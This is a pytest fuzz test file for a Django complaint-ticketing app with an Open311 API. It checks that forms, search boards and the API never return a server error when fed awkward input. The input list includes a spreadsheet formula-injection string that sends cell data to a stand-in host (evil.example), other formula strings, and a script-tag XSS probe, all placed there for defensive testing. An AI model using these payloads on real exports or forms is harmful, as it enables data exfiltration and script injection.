"""A small fuzz of the HTML forms and Open311 with the probe's inputs: NUL bytes, formula
strings, very long text, emoji, markup — every answer a clear 2xx/3xx/4xx, never a 5xx."""

from __future__ import annotations

import pytest
from django.test import Client

from minsheng.open311.services import client_create
from tests.conftest import People
from tests.factories import dispatched, in_progress, replied
from tests.tickets.test_views_ticket import login

VALUES = [
    "\x00",
    "路灯\x00不亮",
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "+1-2",
    "@SUM(A1)",
    "x" * 20_000,
    "😀" * 500,
    "<script>alert(1)</script>",
    "١٢",
    "-1",
    "9" * 40,
]
DESK_FIELDS = [
    "title",
    "description",
    "citizen_name",
    "citizen_phone",
    "citizen_id_number",
    "address",
    "affected_population",
    "township",
    "village",
    "category",
    "kind",
]


@pytest.mark.parametrize("value", VALUES)
def test_the_desk_form_never_answers_5xx(people: People, client: Client, value: str) -> None:
    login(client, people.operator)
    for field in DESK_FIELDS:
        data = {"title": "路灯", "description": "不亮", "kind": "complaint", "channel": "hotline"}
        data[field] = value
        assert client.post("/desk/new", data).status_code < 500, field


@pytest.mark.parametrize("value", VALUES)
def test_every_action_form_never_answers_5xx(people: People, client: Client, value: str) -> None:
    tickets = [dispatched(people), in_progress(people), replied(people)]
    login(client, people.dispatcher)
    for ticket in tickets:
        for action in ("dispatch", "reassign", "merge", "supervise", "return_accept", "callback"):
            data = {
                "version": value,
                "note": value,
                "lead_unit": value,
                "master": value,
                "due_at": value,
                "reached": value,
                "satisfaction": value,
            }
            url = f"/tickets/{ticket.number}/{action}/"
            assert client.post(url, data).status_code < 500, (action, ticket.status)
    login(client, people.alice)
    for ticket in tickets:
        for action in ("sign", "contact", "progress", "reply", "extension_request", "decompose"):
            data = {
                "version": value,
                "note": value,
                "method": value,
                "content": value,
                "result": value,
                "days": value,
                "reason": value,
                "units": value,
            }
            url = f"/tickets/{ticket.number}/{action}/"
            assert client.post(url, data).status_code < 500, (action, ticket.status)


@pytest.mark.parametrize("value", VALUES)
def test_search_and_boards_never_answer_5xx(people: People, client: Client, value: str) -> None:
    login(client, people.supervisor)
    for url in (
        "/tickets/",
        "/tickets/export.xlsx",
        "/deadlines/overdue/",
        "/deadlines/due/",
        "/stats/",
        "/stats/tickets/",
        "/stats/units/",
        "/inbox/",
        "/dispatch/",
    ):
        for name in ("words", "number", "phone", "unit", "division", "category", "from", "page"):
            assert client.get(url, {name: value}).status_code < 500, (url, name)


@pytest.mark.parametrize("value", VALUES)
def test_open311_never_answers_5xx(people: People, value: str) -> None:
    _client, key = client_create(name=f"probe-{len(value)}-{ord(value[0])}")
    http = Client()
    for name in (
        "service_code",
        "description",
        "lat",
        "long",
        "address_string",
        "email",
        "first_name",
        "phone",
        "device_id",
        "media_url",
        "attribute[x]",
    ):
        data = {"api_key": key, "service_code": "1", "description": "路灯不亮", name: value}
        assert http.post("/open311/v2/requests.json", data).status_code < 500, name
        assert http.get("/open311/v2/requests.json", {name: value}).status_code < 500, name
